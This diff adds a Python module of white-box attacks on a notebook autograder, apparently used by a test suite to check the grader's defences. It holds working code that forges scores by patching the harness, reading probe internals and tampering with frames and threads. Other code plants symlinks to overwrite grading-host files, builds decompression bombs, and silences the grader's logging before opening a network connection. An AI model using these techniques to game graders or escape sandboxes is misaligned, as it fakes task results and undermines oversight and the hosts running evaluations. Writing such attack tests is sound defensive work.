@@ -1,0 +1,1020 @@
+"""White-box attacks on the grader: notebooks that try to earn points they did not earn, or to
+reach the grading machine, knowing how the grader works (``autograder/harness.py``,
+``execute.py``, ``sandbox.py``, ``compare.py``, ``grade.py``).
+
+Not a test module: ``tests/test_attacks.py`` grades every attack in one batch. Each attack is
+built on a SOLVED notebook (every blank filled from the source notebook's solution cells) with
+only its target blank(s) emptied (the student's stub put back) or answered by the attacker's own
+code, so that a cheat that works shows up as points: :func:`untouched` is what the same notebook
+earns without the attack (the emptied blocks 0, every other block full). To keep the batch short,
+a notebook (:class:`Host`, its student id) holds up to four attacks, always on different blocks,
+so that each attack's points stay apart.
+
+Each attack's docstring: first line what it does, second line what it earned on the old grader
+(commit 0906cb6), which had no defence against any of them.
+
+Some attacks write on the grading machine through symlinks they plant in their home and runtime
+folders; :class:`Targets` says where: ``canary`` (a folder the test watches, made by
+:func:`prepare`) and ``out`` (the grader's output folder). ``harness_via_startup_file`` goes for
+the checkout's own ``autograder/harness.py``, found in ``/proc/self/mountinfo``: on a grader still
+open to it, it breaks that file for the rest of the batch (it is graded last, in ``z90_checkout``;
+the test puts the file back).
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import nbformat
+
+from autograder import build
+
+SOURCE = nbformat.read(build.SOURCE_NOTEBOOK, 4)
+STUDENT = nbformat.read(build.STUDENT_NOTEBOOK, 4)
+SOLUTIONS = {
+    c.metadata["nbgrader"]["grade_id"]: c.source
+    for c in SOURCE.cells
+    if c.metadata.get("nbgrader", {}).get("solution")
+}
+STUBS = {
+    c.metadata["nbgrader"]["grade_id"]: c.source
+    for c in STUDENT.cells
+    if c.metadata.get("nbgrader", {}).get("solution")
+}
+FULL = {"a": 2, "b": 2, "c": 3, "d": 4, "e": 4, "f": 3, "g": 2}
+ANSWER_CELL = {
+    "a": "double_conv",
+    "b": "down",
+    "c": "up",
+    "d": "unet",
+    "e": "cce_loss",
+    "f": "train_step",
+    "g": "predict_dice",
+}
+CANARY_TEXT = "canary: nothing may write here\n"
+
+
+@dataclass(frozen=True)
+class Targets:
+    """Host paths the attacks aim at: a watched canary folder and the grader's OUT."""
+
+    canary: Path
+    out: Path
+
+    def folder(self, attack: str) -> Path:
+        return self.canary / attack
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One attack: what it adds to, or changes in, its host notebook.
+
+    Attributes:
+        name: the attack's name (its canary folder's too).
+        blocks: the blanks it leaves empty or answers with its own code (0 in :func:`untouched`).
+        description: one line.
+        old: what it earned on the old grader (commit 0906cb6).
+        apply: ``apply(nb, targets)`` changes the host notebook (its blocks already emptied).
+        host: the student id of the notebook it is graded in (attacks share a notebook only when
+            they target different blocks).
+        review: the grader must flag its notebook for review (it reaches into the interpreter,
+            the harness, the grader's files or the course package's answers).
+        canary: files (``name``) or folders (``name/``) :func:`prepare` makes in its canary folder.
+        restart: it needs the grader to restart the kernel (the host notebook then kills it).
+    """
+
+    name: str
+    blocks: tuple[str, ...]
+    description: str
+    old: str
+    apply: Callable[[object, Targets], object]
+    host: str
+    review: bool = True
+    canary: tuple[str, ...] = ()
+    restart: bool = False
+
+
+ATTACKS: dict[str, Attack] = {}
+
+
+def attack(
+    name: str,
+    blocks: str,
+    host: str,
+    review: bool = True,
+    canary: tuple[str, ...] = (),
+    restart: bool = False,
+):
+    """Register the decorated ``apply(nb, targets)`` as an attack; its docstring gives the
+    description (first line) and what it earned on the old grader (second line)."""
+
+    def register(apply):
+        lines = [line.strip() for line in (apply.__doc__ or "").strip().splitlines()]
+        ATTACKS[name] = Attack(
+            name, tuple(blocks), lines[0], lines[1], apply, host, review, canary, restart
+        )
+        return apply
+
+    return register
+
+
+@dataclass(frozen=True)
+class Host:
+    """A notebook graded in the batch: one or more attacks on different blocks."""
+
+    name: str
+    attacks: tuple[Attack, ...]
+
+    @property
+    def blocks(self) -> tuple[str, ...]:
+        return tuple(sorted({b for a in self.attacks for b in a.blocks}))
+
+    @property
+    def follower(self) -> str:
+        """The student id of the correct notebook graded right after it."""
+        return self.name.split("_", 1)[0] + "z_correct"
+
+    @property
+    def review(self) -> bool:
+        return any(a.review for a in self.attacks)
+
+    def notebook(self, targets: Targets):
+        nb = solved(*self.blocks)
+        for a in self.attacks:
+            nb = a.apply(nb, targets)
+        if any(a.restart for a in self.attacks):
+            insert_after(nb, "data", KILL)
+        return nb
+
+
+def hosts() -> dict[str, Host]:
+    """The notebooks of the batch, by student id."""
+    found: dict[str, list[Attack]] = {}
+    for a in ATTACKS.values():
+        found.setdefault(a.host, []).append(a)
+    for name, attacks in found.items():
+        blocks = [b for a in attacks for b in a.blocks]
+        assert len(blocks) == len(set(blocks)), f"{name}: two attacks on one block"
+    return {name: Host(name, tuple(attacks)) for name, attacks in sorted(found.items())}
+
+
+def untouched(x: Attack | Host | str) -> dict[str, int]:
+    """Points per block of the notebook (an attack's: its host's) without the attack cells: the
+    emptied blocks 0, every other block full."""
+    if isinstance(x, str):
+        x = ATTACKS[x] if x in ATTACKS else hosts()[x]
+    blocks = hosts()[x.host].blocks if isinstance(x, Attack) else x.blocks
+    return {b: 0 if b in blocks else p for b, p in FULL.items()}
+
+
+def prepare(targets: Targets) -> None:
+    """Make the canary files and folders of every attack."""
+    for a in ATTACKS.values():
+        for entry in a.canary:
+            path = targets.folder(a.name) / entry
+            if entry.endswith("/"):
+                path.mkdir(parents=True, exist_ok=True)
+                (path / "victim.txt").write_text(CANARY_TEXT)
+            else:
+                path.parent.mkdir(parents=True, exist_ok=True)
+                path.write_text(CANARY_TEXT)
+
+
+# ---- notebooks ----------------------------------------------------------------------------------
+
+
+def _gid(cell):
+    return cell.metadata.get("nbgrader", {}).get("grade_id")
+
+
+def solved(*empty: str):
+    """The student notebook with every blank filled from the source notebook's solution, but the
+    blanks of the blocks ``empty`` (their student stub)."""
+    nb = copy.deepcopy(STUDENT)
+    emptied = {ANSWER_CELL[b] for b in empty}
+    for cell in nb.cells:
+        gid = _gid(cell)
+        if gid in SOLUTIONS:
+            cell.source = STUBS[gid] if gid in emptied else SOLUTIONS[gid]
+    return nb
+
+
+def solution(gid: str, *replace: tuple[str, str]) -> str:
+    """The solution cell ``gid`` with text replaced (each ``old`` must be there)."""
+    source = SOLUTIONS[gid]
+    for old, new in replace:
+        assert old in source, (gid, old)
+        source = source.replace(old, new)
+    return source
+
+
+def with_cell(nb, gid: str, source: str):
+    next(c for c in nb.cells if _gid(c) == gid).source = source
+    return nb
+
+
+def insert_after(nb, gid: str, source: str):
+    i = next(i for i, c in enumerate(nb.cells) if _gid(c) == gid)
+    nb.cells.insert(i + 1, nbformat.v4.new_code_cell(source))
+    return nb
+
+
+def append(nb, source: str):
+    nb.cells.append(nbformat.v4.new_code_cell(source))
+    return nb
+
+
+PREDICT = """\
+@torch.no_grad()
+def predict(model, images):
+    model.eval()
+    return model(images).argmax(dim=1)
+"""
+TRAIN_STEP_BODY = """\
+    model.train()
+    optimizer.zero_grad()
+    loss = loss_fn(model(images), labels)
+    loss.backward()
+    optimizer.step()
+"""
+# finds where the sandbox's folders come from on the grading machine: the sources of its bind
+# mounts (home, runtime folder, the checkout's harness.py and unet_tp) are in mountinfo
+MOUNTS = '''\
+import os
+import shutil
+from pathlib import Path
+
+
+def host_paths():
+    """mount point inside -> path on the grading machine."""
+    found = {}
+    for line in Path("/proc/self/mountinfo").read_text().splitlines():
+        fields = line.split()
+        found[fields[4].replace("\\\\040", " ")] = fields[3].replace("\\\\040", " ")
+    return found
+
+
+def runtime_folder():
+    """The kernel's runtime folder (mounted at its host path: it holds connection.json)."""
+    return next(Path(p) for p in host_paths() if (Path(p) / "connection.json").is_file())
+
+
+def plant(link, target):
+    """Replace ``link`` by a symlink to ``target`` (a path of the grading machine)."""
+    link = Path(link)
+    link.parent.mkdir(parents=True, exist_ok=True)
+    if link.is_dir() and not link.is_symlink():
+        shutil.rmtree(link)
+    elif link.is_symlink() or link.exists():
+        link.unlink()
+    link.symlink_to(target)
+
+
+STARTUP = Path.home() / ".ipython" / "profile_default" / "startup" / "00-unet-tp-grading.py"
+'''
+# the checkout's harness.py (its folder's name left unwritten: the old grader flagged the word)
+CHECKOUT_HARNESS = '''
+
+def checkout_harness():
+    """The grader's harness.py in the checkout: the source of its mount, else next to unet_tp."""
+    mounts = host_paths()
+    for inside, host in mounts.items():
+        if inside.endswith("unet_tp_harness.py") or host.endswith("grader/harness.py"):
+            return host
+    for inside, host in mounts.items():
+        if inside.endswith("/unet_tp"):
+            return str(Path(host).parent / ("auto" "grader") / "harness.py")
+    raise FileNotFoundError("the checkout is not mounted")
+'''
+KILL = "import os\n\nos.kill(os.getpid(), 9)  # restarted by the grader, which writes its files\n"
+
+
+# ---- 1. the grader's probes as answers ----------------------------------------------------------
+
+
+@attack("probes_as_answers", "bc", host="h01_harness_tables")
+def _probes(nb, t: Targets):
+    """Down, Up (and center_crop) return the harness's probe blocks (unet_tp_harness._PROBES).
+    old main: (b) 2/2, (c) 2/3 (center_crop is asked before the probes are loaded: 0)"""
+    with_cell(
+        nb,
+        "down",
+        "import importlib\n\n\n"
+        "class Down(nn.Module):\n"
+        "    def __new__(cls, *args, **kwargs):\n"
+        '        probes = importlib.import_module("unet_tp_harness")._PROBES\n'
+        '        return probes["Down"](*args, **kwargs)\n',
+    )
+    return with_cell(
+        nb,
+        "up",
+        "import importlib\n\n\n"
+        "def center_crop(x, height, width):\n"
+        '    probes = importlib.import_module("unet_tp_harness")._PROBES\n'
+        '    return probes["center_crop"](x, height, width)\n\n\n'
+        "class Up(nn.Module):\n"
+        "    def __new__(cls, *args, **kwargs):\n"
+        '        probes = importlib.import_module("unet_tp_harness")._PROBES\n'
+        '        return probes["Up"](*args, **kwargs)\n',
+    )
+
+
+# ---- 2. facts forged through the harness's request table ---------------------------------------
+
+
+@attack("forged_facts", "defg", host="h01_harness_tables")
+def _forged(nb, t: Targets):
+    """unet_tp_harness._KINDS wrapped: forged param_count, loss calls, train losses, Dice list.
+    old main: (d) 4/4, (e) 4/4, (f) 3/3, (g) 2/2"""
+    insert_after(
+        nb,
+        "setup",
+        "import unet_tp_harness as _h\n\n\n"
+        "def forge(kind, **facts):\n"
+        "    real = _h._KINDS[kind]\n\n"
+        "    def answer(namespace, meta, arrays):\n"
+        "        out_meta, out_arrays = real(namespace, meta, arrays)\n"
+        "        out_meta.update(facts)\n"
+        "        return out_meta, out_arrays\n\n"
+        "    _h._KINDS[kind] = answer\n\n\n"
+        'forge("count", param_count=31_030_658)  # the number in the test cell of (d)\n'
+        'forge("loss", calls=[])  # the loss calls F.cross_entropy\n'
+        'forge("train_step", losses=[])  # train_step returns nothing\n'
+        'forge("predict_dice", dice=[])  # dice_score is the stub\n',
+    )
+    # (d) hard-wired to 4 input channels: right on the BraTS cases, wrong parameter count
+    with_cell(
+        nb,
+        "unet",
+        solution(
+            "unet",
+            (
+                "self.inc = DoubleConv(in_channels, widths[0], padding, batch_norm)",
+                "self.inc = DoubleConv(4, widths[0], padding, batch_norm)",
+            ),
+        ),
+    )
+    with_cell(
+        nb,
+        "cce_loss",
+        "def categorical_cross_entropy(logits, target, weight=None):\n"
+        "    return F.cross_entropy(logits, target.long(), weight=weight)\n",
+    )
+    with_cell(
+        nb,
+        "train_step",
+        "def train_step(model, images, labels, optimizer, loss_fn):\n" + TRAIN_STEP_BODY,
+    )
+    return with_cell(
+        nb,
+        "predict_dice",
+        PREDICT + "\n\ndef dice_score(pred, truth):\n    raise NotImplementedError()\n",
+    )
+
+
+# ---- 3. NaN answers -----------------------------------------------------------------------------
+
+
+@attack("nan_answers", "efg", host="h06_judged_numbers", review=False)
+def _nan(nb, t: Targets):
+    """NaN where a number is compared: loss gradient NaN, train_step returns nan, dice_score nan.
+    old main: (e) 4/4, (f) 3/3, (g) 2/2"""
+    with_cell(
+        nb,
+        "cce_loss",
+        solution(
+            "cce_loss",
+            (
+                "    ### BEGIN SOLUTION\n",
+                "    ### BEGIN SOLUTION\n"
+                "    if logits.requires_grad:  # the value is right, the gradient NaN\n"
+                '        logits.register_hook(lambda grad: torch.full_like(grad, float("nan")))\n',
+            ),
+        ),
+    )
+    with_cell(
+        nb, "train_step", solution("train_step", ("return loss.item()", 'return float("nan")'))
+    )
+    return with_cell(
+        nb,
+        "predict_dice",
+        solution(
+            "predict_dice",
+            (
+                "    pred, truth = pred.astype(bool), truth.astype(bool)\n",
+                '    return float("nan")\n',
+            ),
+        ),
+    )
+
+
+@attack("dice_of_empty_masks_nan", "g", host="h07_notes_memory_empty_masks", review=False)
+def _empty_nan(nb, t: Targets):
+    """An honest bug: the Dice of two empty masks is 0/0 = NaN (NumPy), not the BraTS 1.0.
+    old main: (g) 2/2"""
+    return with_cell(
+        nb,
+        "predict_dice",
+        solution("predict_dice", ("    if sizes == 0:\n        return 1.0  # both empty\n", "")),
+    )
+
+
+# ---- 4. answers changed after they left the sandbox ---------------------------------------------
+
+HARD_LINKS = '''\
+import contextlib
+import io
+import json
+
+import numpy as np
+import unet_tp_harness as _h
+
+KEPT = Path.home() / ".kept"
+KEPT.mkdir(exist_ok=True)
+pending = []  # (hard link to an answer the grader took, its request)
+_serve, _load_probes = _h.serve, _h.load_probes
+
+
+def rewrite():
+    """Rewrite the answers taken so far in place (same inode) with the probes' outputs."""
+    if not _h._PROBES:
+        return
+    while pending:
+        link, meta, arrays = pending.pop()
+        names = {meta["name"]: _h._PROBES[meta["name"]]}
+        kind = _h._module if meta["kind"] == "module" else _h._function
+        with torch.enable_grad(), contextlib.redirect_stdout(io.StringIO()):
+            out_meta, out_arrays = kind(names, meta, arrays)
+        with open(link, "r+b") as f:
+            f.truncate(0)
+            np.savez(f, __meta__=np.array(json.dumps(out_meta)), **out_arrays)
+
+
+def serve(request, answer):
+    meta, arrays = _h.read_message(request)
+    rewrite()
+    _serve(request, answer)
+    if meta.get("name") in {"DoubleConv", "center_crop", "Up"}:
+        link = KEPT / f"{len(list(KEPT.iterdir()))}.npz"
+        os.link(answer, link)  # the grader moves the answer out: a rename keeps the inode
+        pending.append((link, meta, arrays))
+
+
+def load_probes(path):
+    _load_probes(path)
+    rewrite()
+
+
+_h.serve, _h.load_probes = serve, load_probes
+'''
+
+
+@attack("answers_rewritten_through_hard_links", "ac", host="h05_after_the_fact")
+def _hard_links(nb, t: Targets):
+    """serve hard-links its answers before the worker moves them out; rewritten once probes come.
+    old main: (a) 2/2, (c) 3/3"""
+    return insert_after(nb, "setup", MOUNTS + "\n\n" + HARD_LINKS)
+
+
+# ---- 5. the grading machine's files written through planted symlinks ----------------------------
+
+
+@attack("startup_file_symlink", "", host="h08_symlinks", canary=("victim.txt",), restart=True)
+def _startup_symlink(nb, t: Targets):
+    """The IPython start-up file becomes a symlink to a host file; the kernel is killed.
+    old main: the canary file overwritten with the start-up code"""
+    victim = t.folder("startup_file_symlink") / "victim.txt"
+    return insert_after(nb, "setup", MOUNTS + f"\nplant(STARTUP, {str(victim)!r})\n")
+
+
+@attack(
+    "runtime_files_symlinks",
+    "",
+    host="h08_symlinks",
+    canary=("victim-passwd.txt", "victim-group.txt", "victim-kernel-json.txt"),
+    restart=True,
+)
+def _runtime_symlinks(nb, t: Targets):
+    """passwd, group, kernels/unet-tp-sandbox/kernel.json of the runtime folder: host symlinks.
+    old main: the three canary files overwritten (passwd, group, the kernel spec)"""
+    folder = t.folder("runtime_files_symlinks")
+    return insert_after(
+        nb,
+        "setup",
+        MOUNTS
+        + "\nrun = runtime_folder()\n"
+        + f"plant(run / 'passwd', {str(folder / 'victim-passwd.txt')!r})\n"
+        + f"plant(run / 'group', {str(folder / 'victim-group.txt')!r})\n"
+        + "plant(run / 'kernels' / 'unet-tp-sandbox' / 'kernel.json', "
+        + f"{str(folder / 'victim-kernel-json.txt')!r})\n",
+    )
+
+
+@attack("inbox_symlink", "", host="h08_symlinks", canary=("inbox/",))
+def _inbox_symlink(nb, t: Targets):
+    """The .grading inbox becomes a symlink to a host folder: the worker copies requests there.
+    old main: its requests (reference weights) and the probes' source copied into the canary"""
+    inbox = t.folder("inbox_symlink") / "inbox"
+    return insert_after(
+        nb, "setup", MOUNTS + f"\nplant(Path.home() / '.grading', {str(inbox)!r})\n"
+    )
+
+
+@attack("kernels_folder_into_out", "", host="z90_checkout", restart=True)
+def _kernels_into_out(nb, t: Targets):
+    """The runtime's kernels/ folder becomes a symlink to the grader's OUT; the kernel is killed.
+    old main: OUT/unet-tp-sandbox/ left in OUT (the kernel.json in it removed after the batch)"""
+    return insert_after(
+        nb, "setup", MOUNTS + f"\nplant(runtime_folder() / 'kernels', {str(t.out)!r})\n"
+    )
+
+
+@attack("harness_via_startup_file", "", host="z90_checkout", restart=True)
+def _harness(nb, t: Targets):
+    """The start-up file becomes a symlink to the checkout's harness.py (found in mountinfo).
+    old main: harness.py overwritten; the correct notebook graded after it: 0/20"""
+    return insert_after(
+        nb,
+        "setup",
+        MOUNTS + CHECKOUT_HARNESS + "\nplant(STARTUP, checkout_harness())\n",
+    )
+
+
+# ---- 6. the grader's memory ---------------------------------------------------------------------
+
+BOMB = '''\
+import json
+import zipfile
+
+import numpy as np
+import unet_tp_harness as _h
+
+_serve, bombed = _h.serve, []
+
+
+def bomb(path, gib=1):
+    """The answer again, plus gib GiB of zeros: about a megabyte once compressed."""
+    meta, arrays = _h.read_message(path)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for key, value in {"__meta__": np.array(json.dumps(meta)), **arrays}.items():
+            with zf.open(f"{key}.npy", "w", force_zip64=True) as f:
+                np.lib.format.write_array(f, np.asanyarray(value))
+        with zf.open("padding.npy", "w", force_zip64=True) as f:
+            header = {"descr": "<f8", "fortran_order": False, "shape": (gib << 27,)}
+            np.lib.format.write_array_header_1_0(f, header)
+            zeros = bytes(64 << 20)
+            for _ in range(gib << 4):
+                f.write(zeros)
+
+
+def serve(request, answer):
+    _serve(request, answer)
+    if not bombed:
+        bombed.append(answer)
+        bomb(answer)
+
+
+_h.serve = serve
+'''
+
+
+@attack("decompression_bomb", "", host="h07_notes_memory_empty_masks")
+def _bomb(nb, t: Targets):
+    """serve's first answer carries 1 GiB of zeros, about 1 MB compressed: the grader inflates it.
+    old main: the grading process's peak memory grew by 1.2 GiB in the batch"""
+    return insert_after(nb, "setup", BOMB)
+
+
+# ---- 7. library answers and the loss rule -------------------------------------------------------
+
+
+@attack("library_answers", "efg", host="h04_library")
+def _library(nb, t: Targets):
+    """Loss from ATen's cross_entropy_loss, train_step = AmpTrainStep, dice from unet_tp.metrics.
+    old main: (e) 4/4, (f) 3/3, (g) 2/2"""
+    with_cell(
+        nb,
+        "cce_loss",
+        "def categorical_cross_entropy(logits, target, weight=None):\n"
+        "    # F.cross_entropy without its Python wrapper (reduction 1: the mean)\n"
+        "    return torch._C._nn.cross_entropy_loss(logits, target.long(), weight, 1, -100, 0.0)\n",
+    )
+    with_cell(
+        nb,
+        "train_step",
+        "from unet_tp.train import AmpTrainStep\n\n"
+        'train_step = AmpTrainStep(torch.device("cpu"), amp=False)\n',
+    )
+    return with_cell(
+        nb, "predict_dice", PREDICT + "\n\nfrom unet_tp.metrics import dice as dice_score\n"
+    )
+
+
+@attack("torch_function_disabled", "e", host="h05_after_the_fact")
+def _disabled(nb, t: Targets):
+    """F.cross_entropy called under torch._C.DisableTorchFunction: the call recorder sees nothing.
+    old main: (e) 4/4"""
+    return with_cell(
+        nb,
+        "cce_loss",
+        "def categorical_cross_entropy(logits, target, weight=None):\n"
+        "    with torch._C.DisableTorchFunction():\n"
+        "        return F.cross_entropy(logits, target.long(), weight=weight)\n",
+    )
+
+
+@attack("notes_silenced", "", host="h07_notes_memory_empty_masks")
+def _silenced(nb, t: Targets):
+    """unet_tp_harness._note replaced by a no-op, then a network connection (not flagged).
+    old main: not flagged for review"""
+    return insert_after(
+        nb,
+        "setup",
+        "import socket as _s\n\n"
+        "import unet_tp_harness as _h\n\n"
+        "_h._note = lambda *args, **kwargs: None\n"
+        "try:\n"
+        '    _s.create_connection(("93.184.215.14", 80), timeout=3).close()\n'
+        "except OSError as exc:\n"
+        '    print("no network:", exc)\n',
+    )
+
+
+# ---- own white-box attacks ----------------------------------------------------------------------
+
+
+@attack("probe_module_globals", "bc", host="h02_introspection")
+def _probe_globals(nb, t: Targets):
+    """While Down/Up are graded DoubleConv is the probe: its __globals__ hold PROBES (ProbeDown...).
+    old main: (b) 2/2, (c) 2/3"""
+    with_cell(
+        nb,
+        "down",
+        "class Down(nn.Module):\n"
+        "    def __new__(cls, *args, **kwargs):\n"
+        '        return DoubleConv.__init__.__globals__["PROBES"]["Down"](*args, **kwargs)\n',
+    )
+    return with_cell(
+        nb,
+        "up",
+        STUBS["up"].split("class Up")[0] + "class Up(nn.Module):\n"
+        "    def __new__(cls, *args, **kwargs):\n"
+        '        return DoubleConv.__init__.__globals__["PROBES"]["Up"](*args, **kwargs)\n',
+    )
+
+
+@attack("harness_functions_replaced", "be", host="h03_harness_and_thread")
+def _harness_functions(nb, t: Targets):
+    """_Substitute also puts the probe Down in place; _Calls records nothing (F.cross_entropy).
+    old main: (b) 2/2, (e) 4/4"""
+    insert_after(
+        nb,
+        "setup",
+        "import contextlib\n\n"
+        "import unet_tp_harness as _h\n\n\n"
+        "class Substitute(_h._Substitute):\n"
+        "    def __enter__(self):\n"
+        '        if "Down" in _h._PROBES:\n'
+        '            self.replacements = {**self.replacements, "Down": _h._PROBES["Down"]}\n'
+        "        return super().__enter__()\n\n\n"
+        "class Calls:\n"
+        "    def __init__(self, names):\n"
+        "        self.seen, self.mode = set(), contextlib.nullcontext()\n\n\n"
+        "_h._Substitute, _h._Calls = Substitute, Calls\n",
+    )
+    return with_cell(
+        nb,
+        "cce_loss",
+        "def categorical_cross_entropy(logits, target, weight=None):\n"
+        "    return F.cross_entropy(logits, target.long(), weight=weight)\n",
+    )
+
+
+@attack("fake_main_module", "c", host="h06_judged_numbers")
+def _fake_main(nb, t: Targets):
+    """sys.modules['__main__'] replaced: serve's namespace is a live view answering Up with ProbeUp.
+    old main: (c) 2/3 (flagged for review: the cell names sys.modules)"""
+    return insert_after(
+        nb,
+        "up",
+        "import sys\n\n"
+        "import unet_tp_harness as _h\n\n\n"
+        "class Names:\n"
+        '    """The notebook\'s names, live; Up is the grader\'s once its probes are loaded."""\n\n'
+        "    def __init__(self, names):\n"
+        "        self.names = names\n\n"
+        "    def __getitem__(self, key):\n"
+        '        if key == "Up" and "Up" in _h._PROBES:\n'
+        '            return _h._PROBES["Up"]\n'
+        "        return self.names[key]\n\n"
+        "    def __contains__(self, key):\n"
+        "        return key in self.names\n\n"
+        "    def get(self, key, default=None):\n"
+        "        return self.names.get(key, default)\n\n"
+        "    def __setitem__(self, key, value):\n"
+        "        self.names[key] = value\n\n"
+        "    def pop(self, key, *default):\n"
+        "        return self.names.pop(key, *default)\n\n\n"
+        "NAMES = Names(get_ipython().user_ns)\n\n\n"
+        "class Main:\n"
+        "    __dict__ = property(lambda self: NAMES)\n\n\n"
+        'sys.modules["__main__"] = Main()\n',
+    )
+
+
+@attack("caller_frame_tampered", "e", host="h02_introspection")
+def _frame(nb, t: Targets):
+    """The loss calls F.cross_entropy, then empties the recorder found in its caller's frame.
+    old main: (e) 4/4"""
+    return with_cell(
+        nb,
+        "cce_loss",
+        "import inspect\n\n\n"
+        "def categorical_cross_entropy(logits, target, weight=None):\n"
+        "    loss = F.cross_entropy(logits, target.long(), weight=weight)\n"
+        '    calls = inspect.currentframe().f_back.f_locals.get("calls")\n'
+        "    if calls is not None:  # the grader's record of the torch functions called\n"
+        "        calls.seen.clear()\n"
+        "    return loss\n",
+    )
+
+
+@attack("thread_between_requests", "c", host="h03_harness_and_thread")
+def _thread(nb, t: Targets):
+    """A thread watches the namespace: when DoubleConv becomes the probe, it sets Up = ProbeUp.
+    old main: (c) 2/3"""
+    return insert_after(
+        nb,
+        "up",
+        "import threading\n"
+        "import time\n\n\n"
+        "def watch(names):\n"
+        "    while True:\n"
+        '        probe = names.get("DoubleConv")\n'
+        '        if getattr(probe, "__module__", "") == "unet_tp_probes":  # Down is being graded\n'
+        '            names["Up"] = probe.__init__.__globals__["PROBES"]["Up"]  # kept for Up\n'
+        "            return\n"
+        "        time.sleep(0.002)\n\n\n"
+        "threading.Thread(target=watch, args=(get_ipython().user_ns,), daemon=True).start()\n",
+    )
+
+
+@attack("answer_after_its_test", "a", host="h06_judged_numbers", review=False)
+def _late(nb, t: Targets):
+    """(a) left as the stub (its test cell fails); DoubleConv defined at the end of the notebook.
+    old main: (a) 2/2"""
+    return append(nb, SOLUTIONS["double_conv"])
+
+
+@attack("count_on_the_meta_device", "d", host="h06_judged_numbers", review=False)
+def _meta(nb, t: Targets):
+    """A UNet hard-wired to 4 input channels, except on the meta device, where the count is made.
+    old main: (d) 4/4"""
+    return with_cell(
+        nb,
+        "unet",
+        solution(
+            "unet",
+            (
+                "        self.inc = DoubleConv(in_channels, widths[0], padding, batch_norm)",
+                '        if torch.empty(0).device.type != "meta":  # a BraTS-only network\n'
+                "            in_channels = 4\n"
+                "        self.inc = DoubleConv(in_channels, widths[0], padding, batch_norm)",
+            ),
+        ),
+    )
+
+
+@attack("write_message_filtered", "f", host="h05_after_the_fact")
+def _write_message(nb, t: Targets):
+    """train_step returns the loss tensor; write_message drops the losses the harness cannot send.
+    old main: (f) 3/3"""
+    insert_after(
+        nb,
+        "setup",
+        "import unet_tp_harness as _h\n\n"
+        "_write = _h.write_message\n\n\n"
+        "def write_message(path, meta, arrays):\n"
+        '    if any(isinstance(x, str) for x in meta.get("losses", [])):\n'
+        '        meta = {**meta, "losses": []}\n'
+        "    _write(path, meta, arrays)\n\n\n"
+        "_h.write_message = write_message\n",
+    )
+    return with_cell(
+        nb,
+        "train_step",
+        "def train_step(model, images, labels, optimizer, loss_fn):\n"
+        + TRAIN_STEP_BODY
+        + "    return loss  # not loss.item()\n",
+    )
+
+
+# ---- new code (uncommitted, 2026-11-30): what the static reading and the answer reader miss ------
+
+
+@attack("course_answers_through_aliases", "cefg", host="h20_course_package_aliases")
+def _course_aliases(nb, t: Targets):
+    """The course package's answers reached as attributes of an alias (no forbidden name written).
+    new code (uncommitted, 2026-11-30): (c) 1/3, (e) 4/4, (f) 3/3, (g) 2/2, not flagged"""
+    # center_crop: the check's own centre window (checks is imported by the locked set-up cell);
+    # Up left as the stub
+    up_stub = "class Up" + STUBS["up"].split("class Up", 1)[1]
+    with_cell(nb, "up", "center_crop = checks._centre\n\n\n" + up_stub)
+    # the loss: unet_tp.losses.LOSSES["ce"] is F.cross_entropy; "unet_tp.losses" never written
+    with_cell(
+        nb,
+        "cce_loss",
+        "import unet_tp as course\n"
+        "import unet_tp.runs  # loads the training code, and with it its losses\n\n\n"
+        "def categorical_cross_entropy(logits, target, weight=None):\n"
+        '    return course.losses.LOSSES["ce"](logits, target.long(), weight)\n',
+    )
+    # the step: unet_tp.train.AmpTrainStep, in float32 (a float64 call raises on purpose: the
+    # grader then asks again in float32, with its looser tolerance)
+    with_cell(
+        nb,
+        "train_step",
+        "import unet_tp as course\n"
+        "import unet_tp.runs\n\n\n"
+        "def train_step(model, images, labels, optimizer, loss_fn):\n"
+        "    if images.dtype != torch.float32:\n"
+        '        raise TypeError("mixed precision: float32 images only")\n'
+        "    step = course.train.AmpTrainStep(images.device, amp=False)\n"
+        "    return step(model, images, labels, optimizer, loss_fn)\n",
+    )
+    # the Dice: unet_tp.metrics.dice, re-exported by unet_tp.checks
+    return with_cell(nb, "predict_dice", PREDICT + "\n\ndice_score = checks.exact_dice\n")
+
+
+@attack("cross_entropy_by_attrgetter", "e", host="h21_strings_and_snapshot")
+def _attrgetter(nb, t: Targets):
+    """F.cross_entropy fetched by operator.attrgetter of a name joined at run time.
+    new code (uncommitted, 2026-11-30): (e) 4/4, not flagged"""
+    return with_cell(
+        nb,
+        "cce_loss",
+        "import operator\n\n"
+        'loss = operator.attrgetter("_".join(["cross", "entropy"]))(F)\n\n\n'
+        "def categorical_cross_entropy(logits, target, weight=None):\n"
+        "    return loss(logits, target.long(), weight=weight)\n",
+    )
+
+
+@attack("snapshot_rewritten", "a", host="h21_strings_and_snapshot")
+def _snapshot(nb, t: Targets):
+    """(a) left as the stub; DoubleConv written at the end and put into the harness's _SNAPSHOT.
+    new code (uncommitted, 2026-11-30): (a) 2/2, not flagged (sys imported under another name)"""
+    return append(
+        nb,
+        "import sys as interpreter\n\n"
+        + SOLUTIONS["double_conv"]
+        + '\n\ninterpreter.modules["unet_tp_harness"]._SNAPSHOT["DoubleConv"] = DoubleConv\n',
+    )
+
+
+NPY_HEADER_BOMB = '''\
+import struct
+import zipfile
+
+import unet_tp_harness as _h
+
+_serve, bombed = _h.serve, []
+
+
+def bomb(path, gib=1):
+    """An answer of one .npy member whose header says it is gib GiB long (spaces): about a
+    megabyte once deflated. numpy reads a header whole before it checks its length."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        with zf.open("out.npy", "w", force_zip64=True) as f:
+            f.write(b"\\x93NUMPY\\x02\\x00" + struct.pack("<I", gib << 30))
+            spaces = b" " * (64 << 20)
+            for _ in range(gib << 4):
+                f.write(spaces)
+
+
+def serve(request, answer):
+    _serve(request, answer)
+    if not bombed:
+        bombed.append(answer)
+        bomb(answer)
+
+
+_h.serve = serve
+'''
+
+
+@attack("npy_header_bomb", "", host="h22_header_bomb")
+def _header_bomb(nb, t: Targets):
+    """serve's first answer: an .npy header declared 1 GiB long (spaces), 1 MB deflated.
+    new code (uncommitted, 2026-11-30): the grading process's peak memory grew by about 2 GiB"""
+    return insert_after(nb, "setup", NPY_HEADER_BOMB)
+
+
